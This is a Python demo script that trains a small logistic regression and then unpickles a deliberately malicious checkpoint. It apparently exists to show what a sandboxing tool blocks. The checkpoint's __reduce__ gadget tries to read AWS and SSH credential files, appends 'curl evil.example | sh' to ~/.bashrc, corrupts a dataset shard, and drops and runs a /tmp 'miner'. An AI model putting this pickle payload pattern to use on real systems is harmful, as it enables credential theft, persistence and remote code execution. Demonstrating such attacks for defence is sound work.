#!/usr/bin/env python3
"""A small training job, and a checkpoint that attacks it.

Standard library only. It reads every shard of a dataset, trains a
logistic regression for a few epochs, writes a checkpoint per epoch with
the write-temp-then-os.replace pattern, and then loads its last
checkpoint, whose pickled payload does what real attacks do (research:
modelscan, torchtriton, LiteLLM, Ultralytics): read cloud and SSH keys,
append to ~/.bashrc, overwrite a dataset shard, drop a "miner" in /tmp
and run it. Each attack reports one line; the job exits 0 when training
finished, whatever the attacks achieved.

Run by examples/demo.sh, which builds the dataset and a fake HOME under a
temporary folder; nothing here touches real files.
"""
import argparse
import math
import os
import pickle
import subprocess
import sys
import tempfile

OUTCOMES = []


def attempt(what, fn):
    try:
        fn()
        OUTCOMES.append((what, 'SUCCEEDED'))
    except OSError as e:
        OUTCOMES.append((what, f'refused ({e.strerror})'))


def read(path):
    with open(path, 'rb') as f:
        f.read()


def append(path, text):
    with open(path, 'a') as f:
        f.write(text)


def overwrite(path):
    with open(path, 'r+b') as f:
        f.write(b'POISONED')


def drop_and_run_miner():
    path = f'/tmp/trainguard-demo-miner-{os.getpid()}'
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
        os.write(fd, b'#!/bin/sh\necho mined\n')
        os.close(fd)
        mode = os.stat(path).st_mode & 0o777
        OUTCOMES.append(('drop /tmp miner with mode 0755', f'created with mode {mode:04o}'))
        subprocess.run([path], check=True, capture_output=True)
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass


def payload(root):
    """What a malicious checkpoint runs inside torch.load / pickle.load."""
    home = os.path.expanduser('~')
    shard = os.path.join(root, 'dataset', 'part-0', 'shard-000.csv')
    attempt('read ~/.aws/credentials', lambda: read(os.path.join(home, '.aws', 'credentials')))
    attempt('read ~/.ssh/id_rsa', lambda: read(os.path.join(home, '.ssh', 'id_rsa')))
    attempt('append to ~/.bashrc', lambda: append(os.path.join(home, '.bashrc'),
                                                  '\ncurl evil.example | sh\n'))
    attempt('overwrite a dataset shard', lambda: overwrite(shard))
    attempt('run the dropped /tmp miner', drop_and_run_miner)
    return {'weights': [0.0]}


class Checkpoint:
    """A checkpoint whose unpickling calls payload(), as gadget chains do."""

    def __init__(self, root):
        self.root = root

    def __reduce__(self):
        return (payload, (self.root,))


def load_dataset(root):
    rows = []
    data = os.path.join(root, 'dataset')
    for part in sorted(os.listdir(data)):
        for name in sorted(os.listdir(os.path.join(data, part))):
            with open(os.path.join(data, part, name)) as f:
                for line in f:
                    x1, x2, y = line.split(',')
                    rows.append((float(x1), float(x2), int(y)))
    return rows


def train(rows, ckpt_dir, epochs=5, lr=0.1):
    w = [0.0, 0.0, 0.0]
    loss = 0.0
    for epoch in range(1, epochs + 1):
        loss = 0.0
        for x1, x2, y in rows:
            z = w[0] + w[1] * x1 + w[2] * x2
            p = 1.0 / (1.0 + math.exp(-z))
            loss -= y * math.log(p + 1e-12) + (1 - y) * math.log(1 - p + 1e-12)
            g = p - y
            w[0] -= lr * g
            w[1] -= lr * g * x1
            w[2] -= lr * g * x2
        loss /= len(rows)
        # Write the checkpoint beside its final name, then rename it into
        # place: a crash never leaves a half-written checkpoint.
        fd, tmp = tempfile.mkstemp(dir=ckpt_dir, prefix='.epoch-', suffix='.tmp')
        with os.fdopen(fd, 'wb') as f:
            pickle.dump({'epoch': epoch, 'weights': w, 'loss': loss}, f)
        os.replace(tmp, os.path.join(ckpt_dir, f'epoch-{epoch}.ckpt'))
        print(f'epoch {epoch}: loss {loss:.4f}')
    return w, loss


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument('--root', default=os.environ.get('TG_DEMO_ROOT'))
    args = ap.parse_args()
    if not args.root:
        sys.exit('train_demo.py: give --root or set TG_DEMO_ROOT (see examples/demo.sh)')
    rows = load_dataset(args.root)
    ckpt_dir = os.path.join(args.root, 'checkpoints')
    os.makedirs(ckpt_dir, exist_ok=True)
    _, loss = train(rows, ckpt_dir)
    print(f'training finished: {len(rows)} rows, final loss {loss:.4f}')

    # "Resume" from a checkpoint that someone else produced.
    malicious = os.path.join(ckpt_dir, 'downloaded.ckpt')
    with open(malicious, 'wb') as f:
        pickle.dump(Checkpoint(args.root), f)
    with open(malicious, 'rb') as f:
        pickle.load(f)

    for what, outcome in OUTCOMES:
        print(f'attack: {what}: {outcome}')
    succeeded = sum(1 for _, o in OUTCOMES if o == 'SUCCEEDED')
    attacks = sum(1 for w, _ in OUTCOMES if not w.startswith('drop'))
    print(f'{attacks - succeeded} attacks refused, {succeeded} succeeded')
    return 0


if __name__ == '__main__':
    sys.exit(main())
